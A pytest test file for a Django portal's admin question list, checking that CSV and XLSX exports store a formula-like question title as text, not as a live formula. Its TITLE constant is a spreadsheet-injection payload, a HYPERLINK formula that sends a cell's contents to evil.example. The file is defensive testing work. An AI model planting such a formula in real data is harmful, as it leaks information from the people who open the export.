"""A question titled as a formula reaches the staff's spreadsheet as text, whole."""

import csv
import io

import pytest
from openpyxl import load_workbook

from portal.accounts.testing import login_with_second_factor

from .conftest import submit_question

pytestmark = pytest.mark.django_db

INDEX = "/admin/qa/questions/"
TITLE = '=HYPERLINK("http://evil.example/?d="&B7,"x")'


def test_the_question_list_exports_a_formula_title_as_text(client, secretariat):
    submit_question(title=TITLE)
    login_with_second_factor(client, secretariat)
    rows = csv.reader(io.StringIO(b"".join(client.get(INDEX, {"export": "csv"}).streaming_content).decode()))
    assert any("'" + TITLE in row for row in rows)
    xlsx = b"".join(client.get(INDEX, {"export": "xlsx"}).streaming_content)
    cells = [cell for row in load_workbook(io.BytesIO(xlsx)).active.iter_rows() for cell in row]
    assert [cell.data_type for cell in cells if cell.value == TITLE] == ["s"]
    assert not [cell for cell in cells if cell.data_type == "f"]
